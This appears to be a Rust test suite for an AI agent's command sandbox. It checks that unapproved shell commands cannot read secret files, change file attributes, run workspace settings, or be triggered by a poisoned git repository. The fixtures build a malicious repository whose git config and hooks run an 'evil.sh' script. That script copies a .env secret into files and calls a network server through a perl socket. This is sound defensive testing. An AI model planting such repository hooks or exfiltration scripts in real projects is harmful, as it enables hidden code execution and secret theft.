//! What a command may do without approval: read files whose names do not mark them as secret, and
//! change nothing, whatever files it finds and whatever programs a repository's settings start.

use std::fs;
use std::path::Path;
use std::process::Command;

use sayso_fakes::Message;
use serde_json::json;

use super::{Stage, skipped};
use crate::fetching::{Web, page};
use crate::test_bot::TestBot;

/// What stands in every file that keeps secrets.
const SECRET: &str = "needle-of-a-secret";

/// Lays out a workspace with secrets between ordinary files.
fn lay_out(workspace: &Path) {
    for (name, text) in [
        ("notes.txt", "needle in a note\n"),
        ("src/main.rs", "// needle in code\n"),
        ("src/deep/er/list", "needle deep down\n"),
        (".env", "KEY=needle-of-a-secret\n"),
        ("src/.env.local", "KEY=needle-of-a-secret\n"),
        ("src/deep/server.pem", "needle-of-a-secret\n"),
        (".ssh/config", "needle-of-a-secret\n"),
        ("src/id_ed25519", "needle-of-a-secret\n"),
    ] {
        let path = workspace.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    std::os::unix::fs::symlink(".env", workspace.join("plain")).unwrap();
}

const SEARCHES: [&str; 9] = [
    "grep -r needle .",
    "grep -rh needle . --include=*",
    "grep -R needle src .",
    "find . -type f -exec cat {} +",
    "cat plain notes.txt src/main.rs src/deep/er/list",
    "cat * src/* src/deep/er/*",
    "for f in * src/* src/deep/er/*; do cat \"$f\"; done",
    "find . | xargs cat",
    "find . | while read -r f; do cat \"$f\"; done",
];

#[test]
fn a_search_over_everything_finds_all_but_secrets() {
    let stage = Stage::new();
    lay_out(&stage.workspace());
    for search in SEARCHES {
        let found = stage.free(search).stdout;
        assert!(found.contains(SECRET), "{search}: {found}");
        let came = stage.reading(search);
        assert!(!came.stdout.contains(SECRET), "{search}: {came:?}");
        assert!(
            came.stderr.contains("ermission denied"),
            "{search}: {came:?}"
        );
        for ordinary in ["in a note", "in code", "deep down"] {
            assert!(came.stdout.contains(ordinary), "{search}: {came:?}");
        }
    }
}

#[test]
fn what_only_reads_lists_everything_and_changes_nothing() {
    let stage = Stage::new();
    lay_out(&stage.workspace());
    let listed = stage.reading("ls -A . src .ssh");
    assert!(listed.succeeded().contains("id_ed25519"), "{listed:?}");
    for change in [
        "echo x > new",
        "echo x >> notes.txt",
        "rm notes.txt",
        "mv notes.txt other",
        "ln notes.txt other",
        "mkdir new",
        "truncate -s 0 notes.txt",
    ] {
        stage.reading(change).was_refused();
    }
    assert!(stage.workspace().join("notes.txt").is_file());
    // Temporary files are its own.
    let sorted = stage
        .reading("printf 'b\\na\\n' > $TMPDIR/x && sort $TMPDIR/x -o $TMPDIR/y && cat $TMPDIR/y");
    assert_eq!(sorted.succeeded(), "a\nb\n");
}

/// The system calls that change attributes of the file `$p`, which may be open as `F`: a name, the
/// number here and on machines with the generic table, and further arguments (perl).
const ATTRIBUTE_CALLS: [(&str, u32, u32, &str); 25] = [
    ("fchmod", 91, 52, "fileno(F), 0600"),
    ("fchmodat", 268, 53, "-100, $p, 0600"),
    ("fchmodat2", 452, 452, "-100, $p, 0600, 0"),
    ("fchown", 93, 55, "fileno(F), -1, -1"),
    ("fchownat", 260, 54, "-100, $p, -1, -1, 0"),
    ("utimensat", 280, 88, "-100, $p, 0, 0"),
    ("futimens", 280, 88, "fileno(F), 0, 0, 0"),
    ("setxattr", 188, 5, "$p, $n, $v, 1, 0"),
    ("lsetxattr", 189, 6, "$p, $n, $v, 1, 0"),
    ("fsetxattr", 190, 7, "fileno(F), $n, $v, 1, 0"),
    ("removexattr", 197, 14, "$p, $n"),
    ("lremovexattr", 198, 15, "$p, $n"),
    ("fremovexattr", 199, 16, "fileno(F), $n"),
    ("setxattrat", 463, 463, "-100, $p, 0, $n, $s, 16"),
    ("removexattrat", 466, 466, "-100, $p, 0, $n"),
    ("file_setattr", 469, 469, "-100, $p, $s, 24, 0"),
    ("FS_IOC_SETFLAGS", 16, 29, "fileno(F), 0x40086602, $s"),
    ("FS_IOC_FSSETXATTR", 16, 29, "fileno(F), 0x401c5820, $s"),
    ("FS_IOC_SETVERSION", 16, 29, "fileno(F), 0x40087602, $s"),
    ("chmod", 90, 0, "$p, 0600"),
    ("chown", 92, 0, "$p, -1, -1"),
    ("lchown", 94, 0, "$p, -1, -1"),
    ("utime", 132, 0, "$p, 0"),
    ("utimes", 235, 0, "$p, 0"),
    ("futimesat", 261, 0, "-100, $p, 0"),
];

/// Makes one of these calls; says the number of its error.
fn attribute_call(file: &str, (_, here, elsewhere, arguments): (&str, u32, u32, &str)) -> String {
    let number = if cfg!(target_arch = "x86_64") {
        here
    } else {
        elsewhere
    };
    let open = if arguments.contains("fileno") {
        "open(F, \"<\", $p) or die $!;"
    } else {
        ""
    };
    format!(
        "perl -e '($p, $n, $v, $s) = (\"{file}\", \"user.x\", \"v\", \"\\0\" x 32); {open} \
         syscall({number}, {arguments}) == 0 or die 0 + $!'"
    )
}

/// Outside and inside, with namespaces and without: Landlock sees none of it, the filter all.
#[test]
fn s14_what_only_reads_changes_no_attributes_of_any_file() {
    let stage = Stage::new();
    fs::write(stage.workspace().join("notes.txt"), "a note").unwrap();
    let calls = ATTRIBUTE_CALLS.iter().copied();
    let calls: Vec<_> = calls
        .filter(|call| cfg!(target_arch = "x86_64") || call.2 > 0)
        .collect();
    for file in ["notes.txt", "../../sayso.db", "../2/note"] {
        for call in &calls {
            // What is outside cannot be opened to begin with.
            if file == "notes.txt" || !call.3.contains("fileno") {
                let came = stage.reading(&attribute_call(file, *call));
                // EPERM of the filter, and not an error of the arguments.
                let name = call.0;
                assert!(came.stderr.starts_with("1 at "), "{name} {file}: {came:?}");
            }
        }
        for change in ["chmod 600", "touch -c", "chmod u+x"] {
            stage.reading(&format!("{change} {file}")).was_refused();
        }
    }
    // A command that was approved changes them in its workspace.
    for call in calls.iter().take(7) {
        let came = stage.confined(&attribute_call("notes.txt", *call));
        // ENOSYS: older kernels lack one of them.
        if !came.stderr.starts_with("38 at ") {
            came.succeeded();
        }
    }
}

/// The home of other commands is the workspace, and many programs run what their settings there
/// name. A stand-in for one reads them as `hg`, Python and `groovy` do, from where they do.
#[test]
fn s10_what_only_reads_has_an_empty_home() {
    let stage = Stage::new();
    let workspace = stage.workspace();
    for settings in [".hgrc", ".config/tool/init", ".groovy/preinit", ".profile"] {
        let path = workspace.join(settings);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "echo it ran\n").unwrap();
    }
    let stand_in = "for settings in \"$HOME/.hgrc\" \"${XDG_CONFIG_HOME:-$HOME/.config}/tool/init\" \
                    ~/.groovy/preinit ~/.profile; do [ ! -f $settings ] || . $settings; done";
    assert!(stage.free(stand_in).succeeded().contains("it ran"));
    assert_eq!(stage.reading(stand_in).succeeded(), "");
    // An approved command keeps the workspace for its home.
    assert!(stage.confined(stand_in).succeeded().contains("it ran"));
    let home = stage.reading(
        "[ $HOME = $TMPDIR ] && ls -A ~ && cd && ls -A && cd - > /dev/null && ls -A \
         && env | grep -E '^(PYTHON|XDG_)'",
    );
    let said = home.succeeded();
    assert!(said.starts_with(".config\n"), "{said}");
    let python = ["PYTHONNOUSERSITE=1\n", "PYTHONSAFEPATH=1\n"];
    assert!(python.iter().all(|set| said.contains(set)), "{said}");
    assert!(!said.contains("XDG_"), "{said}");
    assert!(!stage.confined("env").succeeded().contains("PYTHON"));
}

/// Python looks for `usercustomize` in the home, and for modules where it is started.
#[test]
fn s10_python_takes_no_code_from_the_workspace() {
    let python = "/usr/bin/python3";
    if !Path::new(python).exists() {
        skipped("there is no Python of the system");
        return;
    }
    let stage = Stage::new();
    let version = stage.free(&format!(
        "{python} -c 'import sys; print(\"%d.%d\" % sys.version_info[:2])'"
    ));
    let version = version.succeeded().trim().to_owned();
    let site = format!(".local/lib/python{version}/site-packages");
    fs::create_dir_all(stage.workspace().join(&site)).unwrap();
    let customize = stage.workspace().join(site).join("usercustomize.py");
    fs::write(customize, "print('it ran')\n").unwrap();
    let ask = format!("{python} -m site --help; {python} -c ''");
    assert!(stage.free(&ask).stdout.contains("it ran"));
    let came = stage.reading(&ask);
    assert!(!came.stdout.contains("it ran"), "{came:?}");
}

/// As people meet it: no one is asked about patterns, loops and lists of names, and what they come
/// upon of secrets is not read.
#[tokio::test]
async fn patterns_loops_and_lists_run_unasked_and_read_no_secret() {
    let bot = TestBot::open().await;
    let chat = bot.direct();
    bot.model.says("Hello.");
    chat.says("hello");
    chat.settles(|message| message.text == "Hello.").await;
    lay_out(&bot.workspace());
    // The first ones follow links, or name one to a secret.
    for (number, search) in SEARCHES.iter().skip(5).enumerate() {
        bot.model.calls(vec![("shell", json!({"command": search}))]);
        let seen = format!("Seen {number}.");
        bot.model.says(&seen);
        chat.says(search);
        chat.settles(|message| message.text == seen).await;
        let told = bot.model.requests().pop().unwrap().last_tool_result();
        assert!(!told.contains(SECRET), "{search}: {told}");
        assert!(told.contains("needle in a note"), "{search}: {told}");
    }
    bot.assert_clean();
}

/// A repository whose own settings name programs, in every place in which git looks for one.
fn poison(repository: &Path, script: &str) {
    let git = |words: &[&str]| {
        let ran = Command::new("git")
            .args(["-c", "user.name=a", "-c", "user.email=a@b"])
            .args(words)
            .current_dir(repository)
            .output()
            .unwrap();
        assert!(ran.status.success(), "{ran:?}");
    };
    fs::write(repository.join("file"), "one\n").unwrap();
    fs::write(repository.join("other.txt"), "one\n").unwrap();
    git(&["init", "-q"]);
    git(&["add", "file", "other.txt"]);
    git(&["commit", "-qm", "first"]);
    fs::write(repository.join("file"), "two\n").unwrap();
    fs::write(repository.join("other.txt"), "two\n").unwrap();
    fs::write(repository.join("evil.sh"), script).unwrap();
    let run = format!("sh {}", repository.join("evil.sh").display());
    for (key, value) in [
        ("core.fsmonitor", run.clone()),
        ("core.pager", run.clone()),
        ("pager.log", run.clone()),
        ("pager.diff", run.clone()),
        ("core.editor", run.clone()),
        ("core.sshCommand", run.clone()),
        ("core.hooksPath", ".git/hooks".to_owned()),
        ("diff.external", run.clone()),
        ("diff.evil.textconv", run.clone()),
        ("diff.evil.command", run.clone()),
        ("filter.evil.clean", run.clone()),
        ("gpg.program", run.clone()),
        ("log.showSignature", "true".to_owned()),
        ("alias.status", format!("!{run}")),
        ("alias.st", format!("!{run}")),
    ] {
        git(&["config", key, &value]);
    }
    fs::create_dir_all(repository.join(".git/info")).unwrap();
    fs::write(
        repository.join(".git/info/attributes"),
        "file diff=evil\n*.txt filter=evil\n",
    )
    .unwrap();
    for hook in [
        "post-index-change",
        "pre-commit",
        "post-checkout",
        "reference-transaction",
    ] {
        let path = repository.join(".git/hooks").join(hook);
        fs::write(&path, format!("#!/bin/sh\n{run}\n")).unwrap();
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        fs::set_permissions(path, mode).unwrap();
    }
}

/// Does harm in every way: outside, in the workspace, in the repository, and over the network.
/// What was read is given away where somebody could find it.
fn harm(outside: &Path, workspace: &Path, server: &str) -> String {
    format!(
        "for place in {outside} {workspace} {workspace}/.git; do
           echo harmed > $place/harmed
           cat {workspace}/.env >> $place/harmed
         done 2> /dev/null
         perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(q({server})); print $s qq(GET / HTTP/1.0\\r\\n\\r\\n); <$s>' 2> /dev/null
         cat {workspace}/.env {outside}/file 2> /dev/null
         exit 0\n",
        outside = outside.display(),
        workspace = workspace.display(),
    )
}

/// The commands that read a repository and run unasked.
const GIT_READS: [&str; 8] = [
    "git status",
    "git status --short",
    "git diff",
    "git diff HEAD --stat",
    "git log",
    "git log -p",
    "git show HEAD",
    "git blame file",
];

#[test]
fn a_poisoned_repository_harms_where_nothing_holds_it_and_not_where_it_is_read_unasked() {
    let stage = Stage::new();
    fs::write(stage.workspace().join(".env"), SECRET).unwrap();
    let script = harm(&stage.outside(), &stage.workspace(), "127.0.0.1:9");
    poison(&stage.workspace(), &script);
    let places = ["outside", "data/workspaces/1", "data/workspaces/1/.git"];
    let places = places.map(|place| stage.path(place).join("harmed"));
    stage.free("git status").succeeded();
    for harmed in &places {
        assert!(fs::read_to_string(harmed).unwrap().contains(SECRET));
        fs::remove_file(harmed).unwrap();
    }
    for read in GIT_READS {
        let came = stage.reading(read);
        assert!(!came.stdout.contains(SECRET), "{read}: {came:?}");
        assert!(!came.stdout.contains("a secret"), "{read}: {came:?}");
    }
    for harmed in &places {
        assert!(!harmed.exists(), "{}", harmed.display());
    }
}

/// The same end to end: the model reads a poisoned repository without approval, and nothing is
/// harmed.
#[tokio::test]
async fn reading_a_poisoned_repository_unasked_harms_nothing() {
    let web = Web::start(|_| page("text/plain", "got you")).await;
    let bot = TestBot::open().await;
    let chat = bot.direct();
    bot.model.says("Hello.");
    chat.says("hello");
    chat.settles(|message| message.text == "Hello.").await;
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("file"), "a secret").unwrap();
    let workspace = bot.workspace();
    lay_out(&workspace);
    poison(&workspace, &harm(outside.path(), &workspace, &web.place()));
    // Held by nothing, the program does all of it.
    let mut freed = tokio::process::Command::new("sh");
    let freed = freed.arg(workspace.join("evil.sh")).output().await;
    assert!(freed.unwrap().status.success());
    let places = [
        outside.path().to_owned(),
        workspace.clone(),
        workspace.join(".git"),
    ];
    for place in &places {
        fs::remove_file(place.join("harmed")).unwrap();
    }
    assert_eq!(web.asked().len(), 1);
    for (number, read) in GIT_READS.iter().chain(&["grep -r needle ."]).enumerate() {
        bot.model.calls(vec![("shell", json!({"command": read}))]);
        let seen = format!("Seen {number}.");
        bot.model.says(&seen);
        chat.says(read);
        chat.settles(|message| message.text == seen).await;
        let told = bot.model.requests().pop().unwrap().last_tool_result();
        assert!(!told.contains(SECRET), "{read}: {told}");
        assert!(!told.contains("a secret"), "{read}: {told}");
    }
    let told = bot.model.requests().pop().unwrap().last_tool_result();
    assert!(told.contains("needle in a note"), "{told}");
    assert!(told.contains("hint: it ran unasked"), "{told}");
    for place in &places {
        assert!(!place.join("harmed").exists(), "{}", place.display());
    }
    assert_eq!(web.asked().len(), 1);
    // Named, it is asked about.
    bot.model
        .calls(vec![("shell", json!({"command": "cat .env"}))]);
    chat.says("read the settings");
    chat.hears_with(Message::asks).await;
    bot.assert_clean();
}

/// A program that runs what its settings at home name, also when it is asked for its version.
const STAND_IN: &str =
    "#!/bin/sh\n[ ! -f \"$HOME/.hgrc\" ] || . \"$HOME/.hgrc\"\necho stand-in 1.0\n";

#[tokio::test]
async fn s10_asking_a_program_for_its_version_runs_no_code_of_the_workspace() {
    let programs = tempfile::tempdir().unwrap();
    let hg = programs.path().join("hg");
    fs::write(&hg, STAND_IN).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    fs::set_permissions(&hg, mode).unwrap();
    let mut bot = TestBot::closed(&[]).await;
    let path = std::env::var("PATH").unwrap();
    bot.set_variable("PATH", &format!("{}:{path}", programs.path().display()));
    bot.start();
    bot.settles_in().await;
    let chat = bot.direct();
    chat.says("hello");
    chat.settles(|message| message.text == "ok: hello").await;
    fs::write(bot.workspace().join(".hgrc"), "echo it ran\n").unwrap();
    for ask in ["hg --version", "hg --help", "hg help"] {
        bot.model.calls(vec![("shell", json!({"command": ask}))]);
        let seen = format!("Seen: {ask}.");
        bot.model.says(&seen);
        chat.says(ask);
        chat.settles(|message| message.text == seen).await;
        let told = bot.model.requests().pop().unwrap().last_tool_result();
        assert!(told.contains("stand-in 1.0"), "{ask}: {told}");
        assert!(!told.contains("it ran"), "{ask}: {told}");
    }
    // In a repository its settings could name code as well: somebody is asked.
    fs::create_dir_all(bot.workspace().join(".hg")).unwrap();
    bot.model
        .calls(vec![("shell", json!({"command": "hg --version"}))]);
    chat.says("hg --version again");
    let card = chat.hears_with(Message::asks).await;
    bot.model.says("Approved.");
    chat.press(&bot.ann, card.id, "Approve").await;
    chat.settles(|message| message.text == "Approved.").await;
    // What was approved has the workspace for its home, as before.
    let told = bot.model.requests().pop().unwrap().last_tool_result();
    assert!(told.contains("it ran"), "{told}");
    bot.assert_clean();
}
